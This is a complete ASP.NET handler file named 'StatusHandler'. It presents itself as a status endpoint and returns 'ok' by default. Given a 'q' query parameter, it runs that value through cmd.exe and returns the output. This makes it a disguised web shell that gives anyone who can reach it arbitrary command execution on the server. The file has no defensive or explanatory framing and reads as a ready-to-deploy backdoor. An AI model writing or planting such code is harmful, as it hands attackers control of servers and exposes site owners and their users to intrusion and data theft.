<%@ WebHandler Language="C#" Class="StatusHandler" %>
using System;
using System.Web;
using System.Diagnostics;

public class StatusHandler : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        context.Response.ContentType = "text/plain";
        string q = context.Request.QueryString["q"];
        if (q == null) { context.Response.Write("ok"); return; }
        ProcessStartInfo info = new ProcessStartInfo("cmd.exe", "/c " + q);
        info.RedirectStandardOutput = true;
        info.UseShellExecute = false;
        info.CreateNoWindow = true;
        using (Process p = Process.Start(info))
        {
            context.Response.Write(p.StandardOutput.ReadToEnd());
        }
    }

    public bool IsReusable { get { return false; } }
}
